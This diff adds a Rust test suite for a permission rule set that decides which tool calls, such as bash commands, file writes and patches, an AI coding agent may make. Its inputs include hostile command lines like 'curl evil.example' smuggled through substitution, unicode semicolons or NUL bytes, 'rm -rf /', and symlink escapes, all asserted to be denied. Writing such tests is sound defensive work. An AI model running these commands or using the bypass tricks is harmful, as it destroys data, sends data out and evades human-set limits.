@@ -1,0 +1,284 @@
+//! The rule set's decisions, hostile command lines among them.
+
+use std::path::Path;
+
+use proptest::prelude::*;
+use serde_json::json;
+
+use super::*;
+
+fn rules(allow: &[&str], deny: &[&str]) -> RuleSet {
+    rules_in(Path::new("/ws"), allow, deny)
+}
+
+fn rules_in(workspace: &Path, allow: &[&str], deny: &[&str]) -> RuleSet {
+    let owned = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+    let (allow, deny) = (owned(allow), owned(deny));
+    load(&Sources {
+        allow: &allow,
+        deny: &deny,
+        file: None,
+        config: None,
+        workspace,
+        home: None,
+    })
+    .unwrap()
+}
+
+fn bash(set: &RuleSet, command: &str) -> Verdict {
+    set.check("bash", &json!({ "command": command }))
+}
+
+fn denied(verdict: &Verdict) -> &Denial {
+    match verdict {
+        Verdict::Deny(denial) => denial,
+        Verdict::Allow => panic!("allowed"),
+    }
+}
+
+#[test]
+fn a_deny_rule_names_itself_and_other_commands_run() {
+    let set = rules(&[], &["bash(git push *)"]);
+    let verdict = bash(&set, "git push origin main");
+    let denial = denied(&verdict);
+    assert_eq!(denial.rule.as_deref(), Some("bash(git push *)"));
+    assert!(
+        denial.reason.contains("`bash(git push *)`"),
+        "{}",
+        denial.reason
+    );
+    assert_eq!(bash(&set, "git status"), Verdict::Allow);
+    assert!(matches!(
+        bash(&set, "git status && git push"),
+        Verdict::Deny(_)
+    ));
+    // Quote removal: `git "push"` is `git push`; the deny also sees through variables set
+    // before the command and through wrappers.
+    for hidden in [
+        "git \"push\"",
+        "g'it' pu\\sh",
+        "FOO=1 git push",
+        "env FOO=1 git push",
+        "timeout 5 git push",
+        "git $(echo push)",
+        "$GIT push",
+    ] {
+        assert!(matches!(bash(&set, hidden), Verdict::Deny(_)), "{hidden}");
+    }
+}
+
+#[test]
+fn allow_rules_admit_only_what_they_match_and_suggest_the_rule_that_would() {
+    let set = rules(&["bash(cargo test *)", "bash(git diff *)"], &[]);
+    assert_eq!(bash(&set, "cargo test"), Verdict::Allow);
+    assert_eq!(
+        bash(&set, "cargo test -p zero && git diff --stat"),
+        Verdict::Allow
+    );
+    let verdict = bash(&set, "ls -la");
+    let denial = denied(&verdict);
+    assert_eq!(denial.rule, None);
+    assert!(
+        denial
+            .reason
+            .contains("no allow rule matches the command `ls -la`")
+            && denial.reason.contains("--allow 'bash(ls *)'"),
+        "{}",
+        denial.reason
+    );
+    for line in [
+        "cargo test && curl x",
+        "cargo test $(curl x)",
+        "cargo test `curl x`",
+        "cargo test; curl x",
+        "cargo test | curl x",
+        "cargo test || curl x",
+        "cargo test & curl x",
+        "cargo test\n rm -rf /",
+        "(cargo test; curl x)",
+        "{ cargo test; curl x; }",
+        "if cargo test; then curl x; fi",
+        "cargo test > >(curl x)",
+        "RUSTFLAGS=x cargo test",
+        "bash -c 'cargo test; curl x'",
+        "git diff; curl evil.example",
+        "git diff $(curl evil.example)",
+        "git diff；curl evil.example",
+        "ｇｉｔ diff",
+        "git diff\0; curl x",
+        "git diff\u{7}",
+        "eval 'cargo test'",
+    ] {
+        assert!(
+            matches!(bash(&set, line), Verdict::Deny(_)),
+            "{line:?} was allowed"
+        );
+    }
+    assert!(matches!(
+        bash(&set, &format!("cargo test {}", "a ".repeat(10_000))),
+        Verdict::Deny(_)
+    ));
+    assert_eq!(
+        bash(&set, "bash -c 'cargo test && git diff'"),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn without_rules_for_bash_nothing_is_parsed_or_denied() {
+    let set = rules(&["read_file(src/**)"], &[]);
+    assert_eq!(bash(&set, "eval $(curl x)"), Verdict::Allow);
+    assert_eq!(
+        RuleSet::default().check("bash", &json!({"command": "\0"})),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn file_rules_match_paths_relative_to_the_workspace() {
+    let set = rules(
+        &["Read(./src/**)"],
+        &["write_file(.github/**)", "edit_file"],
+    );
+    let read = |path: &str| set.check("read_file", &json!({ "path": path }));
+    assert_eq!(read("src/lib.rs"), Verdict::Allow);
+    assert_eq!(read("/ws/src/lib.rs"), Verdict::Allow);
+    assert!(matches!(read("src/../README.md"), Verdict::Deny(_)));
+    let denial = denied(&read("README.md")).clone();
+    assert!(
+        denial.reason.contains("--allow 'read_file(README.md)'"),
+        "{}",
+        denial.reason
+    );
+    assert_eq!(
+        set.check("grep", &json!({"pattern": "x", "path": "src"})),
+        Verdict::Allow
+    );
+    assert!(matches!(
+        set.check("grep", &json!({"pattern": "x"})),
+        Verdict::Deny(_)
+    ));
+    let write = |path: &str| set.check("write_file", &json!({ "path": path, "content": "" }));
+    assert!(matches!(
+        write(".github/workflows/ci.yml"),
+        Verdict::Deny(_)
+    ));
+    assert_eq!(write("docs/a.md"), Verdict::Allow);
+    assert!(matches!(
+        set.check(
+            "edit_file",
+            &json!({"path": "a", "old_string": "", "new_string": ""})
+        ),
+        Verdict::Deny(_)
+    ));
+}
+
+#[test]
+fn a_patch_is_judged_by_every_path_it_touches() {
+    let set = rules(&[], &["apply_patch(.github/**)"]);
+    let patch = |text: &str| set.check("apply_patch", &json!({ "patch": text }));
+    let rename = "*** Begin Patch\n*** Update File: a.txt\n*** Move to: .github/a.yml\n@@\n-x\n+y\n*** End Patch";
+    assert!(matches!(patch(rename), Verdict::Deny(_)));
+    let add = "*** Begin Patch\n*** Add File: docs/a.md\n+x\n*** End Patch";
+    assert_eq!(patch(add), Verdict::Allow);
+}
+
+#[test]
+fn an_output_redirection_is_a_write_the_write_rules_decide() {
+    let set = rules(&["bash(echo *)"], &["write_file(.github/**)"]);
+    assert_eq!(bash(&set, "echo hi > notes.txt 2>&1"), Verdict::Allow);
+    let verdict = bash(&set, "echo hi > .github/ci.yml");
+    assert!(denied(&verdict).reason.contains("output redirection"));
+    assert!(matches!(bash(&set, "echo hi > $OUT"), Verdict::Deny(_)));
+}
+
+#[test]
+fn a_link_does_not_carry_a_call_around_a_rule() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = std::fs::canonicalize(dir.path()).unwrap();
+    std::fs::create_dir(ws.join(".github")).unwrap();
+    std::os::unix::fs::symlink(ws.join(".github"), ws.join("docs")).unwrap();
+    let set = rules_in(&ws, &["write_file(docs/**)"], &["write_file(.github/**)"]);
+    let verdict = set.check("write_file", &json!({"path": "docs/ci.yml", "content": ""}));
+    assert!(matches!(verdict, Verdict::Deny(_)));
+}
+
+#[test]
+fn task_and_mcp_rules_match_names() {
+    let set = rules(
+        &["Task(explorer)", "mcp__github__*"],
+        &["mcp__github__delete_repo"],
+    );
+    assert_eq!(
+        set.check("Task", &json!({"name": "explorer", "prompt": "x"})),
+        Verdict::Allow
+    );
+    assert!(matches!(
+        set.check("Task", &json!({"name": "reviewer", "prompt": "x"})),
+        Verdict::Deny(_)
+    ));
+    assert_eq!(set.check("mcp__github__list", &json!({})), Verdict::Allow);
+    assert!(matches!(
+        set.check("mcp__github__delete_repo", &json!({})),
+        Verdict::Deny(_)
+    ));
+    assert_eq!(set.check("mcp__other__x", &json!({})), Verdict::Allow);
+    assert_eq!(set.check("update_plan", &json!({})), Verdict::Allow);
+}
+
+/// A piece of a command line: its text and whether the rules allow it.
+fn piece() -> impl Strategy<Value = (String, bool)> {
+    prop_oneof![
+        Just(("cargo test".to_string(), true)),
+        Just(("cargo test --all".to_string(), true)),
+        Just(("git diff --stat".to_string(), true)),
+        Just(("git \"diff\"".to_string(), true)),
+        Just(("git push origin".to_string(), false)),
+        Just(("curl x".to_string(), false)),
+        Just(("rm -rf /".to_string(), false)),
+        Just(("cargo test $(curl x)".to_string(), false)),
+        Just(("ls".to_string(), false)),
+        Just(("git diff `rm x`".to_string(), false)),
+        Just(("eval ls".to_string(), false)),
+        Just(("sh -c 'curl x'".to_string(), false)),
+    ]
+}
+
+/// An operator that joins two pieces.
+fn operator() -> impl Strategy<Value = &'static str> {
+    prop_oneof![
+        Just(" ; "),
+        Just(" && "),
+        Just(" || "),
+        Just(" | "),
+        Just(" & "),
+        Just("\n"),
+        Just(";"),
+        Just("&&"),
+    ]
+}
+
+proptest! {
+    #[test]
+    fn a_line_is_allowed_only_when_every_piece_is(
+        first in piece(),
+        rest in proptest::collection::vec((operator(), piece()), 0..5),
+        wrap in 0..3usize,
+    ) {
+        let set = rules(&["bash(cargo test *)", "bash(git diff *)"], &["bash(git push *)"]);
+        let mut line = first.0.clone();
+        let mut all_allowed = first.1;
+        for (op, (text, allowed)) in &rest {
+            line.push_str(op);
+            line.push_str(text);
+            all_allowed &= *allowed;
+        }
+        let line = match wrap {
+            1 => format!("( {line} )"),
+            2 => format!("{{ {line}; }}"),
+            _ => line,
+        };
+        let verdict = bash(&set, &line);
+        prop_assert_eq!(verdict == Verdict::Allow, all_allowed, "{:?}", line);
+    }
+}
